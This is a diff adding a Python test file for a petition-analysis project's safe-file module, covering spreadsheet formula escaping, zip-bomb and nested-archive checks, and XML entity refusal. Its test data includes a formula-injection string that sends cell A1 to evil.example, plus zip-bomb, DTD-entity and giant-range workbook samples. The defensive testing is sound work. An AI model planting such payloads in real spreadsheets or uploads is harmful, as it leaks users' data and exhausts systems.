@@ -1,0 +1,153 @@
+"""Safe to open, safe to load (issue 20): no formulas from input text, no code from a model
+file, no memory eaten by a small archive."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pandas as pd
+import pytest
+
+from conftest import SAMPLE_XLSX
+from petition_nlp.io import InputError
+from petition_nlp.safefiles import (
+    MAX_SHEET_CELLS,
+    check_archive,
+    guard_cell,
+    guard_frame,
+    parse_xml,
+    unguard_cell,
+    unguard_frame,
+)
+
+# The strings of issue 20, and the other characters a spreadsheet evaluates.
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây") đề nghị tăng lương',
+    "=1+2 đề nghị công ty đóng BHXH đầy đủ",
+    "+84 912 345 678 hỏi về nhà ở xã hội",
+    "- Đề nghị công đoàn mở lớp học nghề hàn",
+    "@SUM(A1:A3) kiến nghị về an ninh khu trọ",
+    "\tđề nghị sửa đường vào khu công nghiệp",
+    "\rđề nghị tăng ca có phụ cấp",
+    "'=đã có dấu nháy ở đầu",
+    "''+hai dấu nháy",
+    "'bình thường có dấu nháy",
+]
+
+
+# ----------------------------------------------------------------------------- formula guard
+@pytest.mark.parametrize("text", FORMULA_TEXTS + ["bình thường", "", "'", "a=b", "-", "=", "5", "-5"])
+def test_guard_round_trips_every_string(text: str) -> None:
+    guarded = guard_cell(text)
+    assert unguard_cell(guarded) == text
+    assert not guarded or guarded[0] not in "=+-@\t\r"
+
+
+def test_guard_follows_owasp() -> None:
+    assert guard_cell("=1+2") == "'=1+2"
+    assert guard_cell("@x") == "'@x"
+    assert guard_cell("\tx") == "'\tx"
+    assert guard_cell("bình thường") == "bình thường"
+    assert guard_cell("'bình thường") == "'bình thường"  # not touched, and unguard leaves it too
+    assert unguard_cell("'bình thường") == "'bình thường"
+    assert guard_cell(-5) == -5 and guard_cell(None) is None
+
+
+def test_guard_frame_cells_and_headers() -> None:
+    frame = pd.DataFrame(
+        {
+            "=cột": FORMULA_TEXTS[:3] + [None],
+            "n": [-1, 2, 3, 4],
+            "code": pd.Categorical(["-x", "y", "-x", "z"]),
+            "s": pd.array(["=a", "b", pd.NA, "+c"], dtype="string"),
+        }
+    )
+    guarded = guard_frame(frame)
+    assert list(guarded.columns) == ["'=cột", "n", "code", "s"]
+    assert guarded["'=cột"].iloc[0].startswith("'=HYPERLINK")
+    assert guarded["n"].tolist() == [-1, 2, 3, 4]
+    assert list(guarded["code"].cat.categories) == ["'-x", "y", "z"]
+    assert guarded["s"].iloc[3] == "'+c" and pd.isna(guarded["s"].iloc[2])
+    assert frame["=cột"].iloc[0].startswith("=")  # the input frame is not modified
+    back = unguard_frame(guarded)
+    pd.testing.assert_frame_equal(back, frame)
+
+
+# ----------------------------------------------------------------------------- archives
+def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", method, compresslevel=9) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+@pytest.mark.skipif(not SAMPLE_XLSX.exists(), reason="sample survey not built")
+def test_check_archive_accepts_a_real_workbook() -> None:
+    check_archive(SAMPLE_XLSX.read_bytes(), SAMPLE_XLSX)
+
+
+def test_check_archive_ignores_non_zip_bytes() -> None:
+    check_archive(b"STT,text\n1,abc\n", "a.csv")
+    check_archive(b"PK\x03\x04garbage", "broken.xlsx")
+
+
+def test_check_archive_refuses_high_ratio_member() -> None:
+    raw = _zip({"xl/worksheets/sheet1.xml": b"\0" * (50 * 1024**2)})
+    with pytest.raises(InputError, match=r"bomb\.xlsx: member .* inflates [\d,]+x \(limit 200x\)"):
+        check_archive(raw, "bomb.xlsx")
+
+
+def test_check_archive_refuses_nested_archive_and_dtd() -> None:
+    inner = _zip({"a.txt": b"hello"})
+    with pytest.raises(InputError, match="nested archives are refused"):
+        check_archive(_zip({"xl/workbook.xml": b"<workbook/>", "xl/other.zip": inner}), "n.xlsx")
+    # an embedded object (a chart's workbook inside a Word file) is never opened: allowed
+    check_archive(_zip({"word/document.xml": b"<w/>", "word/embeddings/chart.xlsx": inner}), "ok.docx")
+    dtd = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
+    with pytest.raises(InputError, match="declares XML entities"):
+        check_archive(_zip({"xl/sharedStrings.xml": dtd}), "dtd.xlsx")
+
+
+def test_check_archive_refuses_too_many_members() -> None:
+    raw = _zip({f"f{i}.txt": b"" for i in range(5_001)}, zipfile.ZIP_STORED)
+    with pytest.raises(InputError, match="5,001 members"):
+        check_archive(raw, "many.xlsx")
+
+
+def test_check_archive_refuses_giant_sheet_ranges() -> None:
+    sheet = (
+        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c>'
+        b"</row></sheetData></worksheet>"
+    )
+    with pytest.raises(InputError, match=r"spans 1,048,576 rows x 16,384 columns"):
+        check_archive(_zip({"xl/worksheets/sheet1.xml": sheet}), "wide.xlsx")
+    far = sheet.replace(b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1"/>').replace(
+        b"</row>", b'</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    )
+    with pytest.raises(InputError, match="spans"):
+        check_archive(_zip({"xl/worksheets/sheet1.xml": far}), "far.xlsx")
+    small = sheet.replace(b"A1:XFD1048576", b"A1:T1000")
+    check_archive(_zip({"xl/worksheets/sheet1.xml": small}), "fine.xlsx")
+    assert 1000 * 20 < MAX_SHEET_CELLS
+
+
+def test_check_archive_bounds_ods_repeats() -> None:
+    content = (
+        b'<?xml version="1.0"?><office:document-content><table:table>'
+        b'<table:table-row table:number-rows-repeated="1048576">'
+        b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
+        b"</table:table-cell></table:table-row></table:table></office:document-content>"
+    )
+    with pytest.raises(InputError, match="repeats cells"):
+        check_archive(_zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}), "r.ods")
+    normal = content.replace(b'table:number-columns-repeated="16384" ', b"")  # LibreOffice's empty tail
+    check_archive(_zip({"content.xml": normal}), "ok.ods")
+
+
+def test_parse_xml_refuses_entities() -> None:
+    assert parse_xml(b"<a><b>1</b></a>").find("b").text == "1"
+    with pytest.raises(Exception, match="(?i)dtd|entit"):
+        parse_xml(b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')
